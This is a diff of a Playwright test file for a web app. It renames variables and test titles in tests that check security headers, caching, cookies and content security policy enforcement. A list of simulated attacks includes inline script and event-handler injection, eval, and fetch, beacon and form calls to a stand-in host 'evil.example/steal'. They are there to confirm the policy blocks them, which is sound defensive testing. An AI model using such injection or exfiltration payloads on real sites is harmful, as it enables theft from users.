@@ -6,7 +6,7 @@ import { services } from './services';
 const dist = new URL('../../../dist-live/', import.meta.url);
 const scripts = readdirSync(new URL('assets/', dist)).filter((name) => name.endsWith('.js'));
 
-const everywhere = {
+const commonHeaders = {
   'content-security-policy': [
     "default-src 'none'",
     "base-uri 'none'",
@@ -30,29 +30,29 @@ const everywhere = {
   'cross-origin-resource-policy': 'same-origin',
   'permissions-policy': 'camera=(), microphone=(), payment=(), usb=(), geolocation=(self)',
 };
-const [page, asset] = ['no-cache', 'public, max-age=31536000, immutable'];
+const [pageCaching, assetCaching] = ['no-cache', 'public, max-age=31536000, immutable'];
 
 for (const [name, path, status, type, caching] of [
-  ['the home page', '/', 200, /^text\/html/, page],
-  ['a page', '/find-group', 200, /^text\/html/, page],
-  ['a deep link', '/Manage-group/64a7f0c2e1b5d83f9a6c0001', 200, /^text\/html/, page],
-  ['a page with a query', '/managed-groups?tab=joined', 200, /^text\/html/, page],
-  ['index.html', '/index.html', 200, /^text\/html/, page],
-  ['an unknown page', '/nowhere', 200, /^text\/html/, page],
-  ['an asset', `/assets/${scripts[0]}`, 200, /javascript/, asset],
-  ['a missing asset', '/assets/missing-0a1b2c3d.js', 404, /^text\/plain/, asset],
+  ['the home page', '/', 200, /^text\/html/, pageCaching],
+  ['a page', '/find-group', 200, /^text\/html/, pageCaching],
+  ['a deep link', '/Manage-group/64a7f0c2e1b5d83f9a6c0001', 200, /^text\/html/, pageCaching],
+  ['a page with a query', '/managed-groups?tab=joined', 200, /^text\/html/, pageCaching],
+  ['index.html', '/index.html', 200, /^text\/html/, pageCaching],
+  ['an unknown page', '/nowhere', 200, /^text\/html/, pageCaching],
+  ['an asset', `/assets/${scripts[0]}`, 200, /javascript/, assetCaching],
+  ['a missing asset', '/assets/missing-0a1b2c3d.js', 404, /^text\/plain/, assetCaching],
 ] as const) {
-  test(`${name} is answered with ${status} and every header`, async ({ request }) => {
+  test(`${name} returns ${status} with all headers`, async ({ request }) => {
     const response = await request.get(path);
     expect(response.status()).toBe(status);
     const headers = response.headers();
-    expect(headers).toMatchObject({ ...everywhere, 'cache-control': caching });
+    expect(headers).toMatchObject({ ...commonHeaders, 'cache-control': caching });
     expect(headers['content-type']).toMatch(type);
     expect(JSON.stringify(headers)).not.toContain('%');
   });
 }
 
-test('the build holds nothing of the mocks', async () => {
+test('the live build contains no mock code or data', async () => {
   expect(readdirSync(dist)).not.toContain('mockServiceWorker.js');
   expect(readdirSync(dist)).not.toContain('hosted-checkout.html');
   for (const name of scripts) {
@@ -62,7 +62,7 @@ test('the build holds nothing of the mocks', async () => {
   }
 });
 
-test('the styles that the components make reach the page', async ({ page }) => {
+test('component styles are applied under the content security policy', async ({ page }) => {
   await page.goto('/login');
   const login = page.getByRole('button', { name: 'Login', exact: true });
   await expect(login).toHaveCSS('font-family', /Figtree/);
@@ -70,30 +70,30 @@ test('the styles that the components make reach the page', async ({ page }) => {
   await expect(login).not.toHaveCSS('border-radius', '0px');
 });
 
-test('the app leaves no cookie', async ({ page }) => {
+test('the app sets no cookies', async ({ page }) => {
   await page.goto('/login');
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   expect(await page.context().cookies()).toEqual([]);
 });
 
-test.describe('against the policy', () => {
-  // The browser reports each breach in its console.
+test.describe('content security policy', () => {
+  // The browser logs each violation to the console.
   test.use({ allowedErrors: [/Content Security Policy/] });
 
-  /** As text: the browser exempts what is evaluated at once, so that eval comes a turn later. */
+  /** The browser exempts code evaluated directly by `page.evaluate`, so the eval case runs from a timer. */
   const attacks: [name: string, directive: string, code: string][] = [
     ['an inline script', 'script-src-elem', "add('script', { textContent: 'window.__pwned = 1' })"],
-    ['an event handler', 'script-src-attr', 'html(\'<img src="x:" onclick="window.__pwned = 1">\').click()'],
+    ['an inline event handler', 'script-src-attr', 'html(\'<img src="x:" onclick="window.__pwned = 1">\').click()'],
     ['eval', 'script-src', "setTimeout(() => eval('window.__pwned = 1'))"],
-    ['a script of another site', 'script-src-elem', "add('script', { src: 'https://evil.example/x.js' })"],
-    ['a style', 'style-src-elem', "html('<style>body { display: none }</style>')"],
-    ['a call to another site', 'connect-src', "fetch('https://evil.example/steal').catch(() => undefined)"],
-    ['a beacon to another site', 'connect-src', "navigator.sendBeacon('https://evil.example/steal')"],
-    ['a frame', 'frame-src', "add('iframe', { src: 'https://evil.example/' })"],
-    ['another base', 'base-uri', "add('base', { href: 'https://evil.example/' })"],
-    ['a form to another site', 'form-action', "add('form', { action: 'https://evil.example/' }).submit()"],
+    ['a script from another origin', 'script-src-elem', "add('script', { src: 'https://evil.example/x.js' })"],
+    ['an inline style element', 'style-src-elem', "html('<style>body { display: none }</style>')"],
+    ['a fetch to another origin', 'connect-src', "fetch('https://evil.example/steal').catch(() => undefined)"],
+    ['a beacon to another origin', 'connect-src', "navigator.sendBeacon('https://evil.example/steal')"],
+    ['an iframe', 'frame-src', "add('iframe', { src: 'https://evil.example/' })"],
+    ['a base element', 'base-uri', "add('base', { href: 'https://evil.example/' })"],
+    ['a form submission to another origin', 'form-action', "add('form', { action: 'https://evil.example/' }).submit()"],
   ];
-  const tools = `
+  const helpers = `
     const add = (name, properties) => {
       const element = Object.assign(document.createElement(name), properties);
       document.body.append(element);
@@ -105,34 +105,34 @@ test.describe('against the policy', () => {
     };`;
 
   for (const [name, directive, code] of attacks) {
-    test(`${name} is blocked`, async ({ page }) => {
+    test(`blocks ${name}`, async ({ page }) => {
       await page.goto('/login');
       const heading = page.getByRole('heading', { level: 1, name: 'Login' });
       await expect(heading).toBeVisible();
-      expect(await breachOf(page, `{ ${tools} ${code} }`)).toBe(directive);
+      expect(await findViolatedDirective(page, `{ ${helpers} ${code} }`)).toBe(directive);
       expect(await page.evaluate('window.__pwned')).toBeUndefined();
       expect(await page.evaluate('document.body.innerText')).toContain('Find your squad');
     });
   }
 
-  test('no other page may frame the app', async ({ page, baseURL }) => {
-    const framing = `${services}/framing.html`;
-    await page.route(framing, (route) =>
+  test('another page cannot embed the app in an iframe', async ({ page, baseURL }) => {
+    const embeddingPage = `${services}/framing.html`;
+    await page.route(embeddingPage, (route) =>
       route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/login"></iframe>` }),
     );
-    await page.goto(framing);
+    await page.goto(embeddingPage);
     await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
   });
 });
 
-/** The directive that the code breaks. */
-async function breachOf(page: Page, code: string): Promise<string> {
-  const breach = page.evaluate(
+/** Runs the code and returns the directive of the first policy violation. */
+async function findViolatedDirective(page: Page, code: string): Promise<string> {
+  const violation = page.evaluate(
     () =>
       new Promise<string>((resolve) => {
         addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
       }),
   );
   await page.evaluate(code);
-  return breach;
+  return violation;
 }
